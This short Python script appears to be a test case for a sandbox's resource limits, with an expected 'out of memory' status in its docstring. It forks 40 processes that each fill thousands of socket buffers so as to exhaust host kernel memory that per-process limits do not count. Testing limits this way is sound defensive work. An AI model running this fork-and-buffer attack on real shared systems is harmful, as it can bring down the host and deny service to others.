"""Fills the buffers of thousands of sockets, memory that belongs to the host's kernel and to no process.

Status: out of memory
Limits: cpu_s 10, total_cpu_s 30
"""

# %%
import os
import socket
import time

piece = bytes(65536)
for _ in range(40):
    if os.fork():
        continue
    pairs = []
    try:
        while True:
            pair = socket.socketpair()
            for end in pair:
                end.setblocking(False)
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 10**7)
                try:
                    while True:
                        end.send(piece)
                except BlockingIOError:
                    pass
            pairs.append(pair)
    except OSError:
        time.sleep(600)
time.sleep(8)
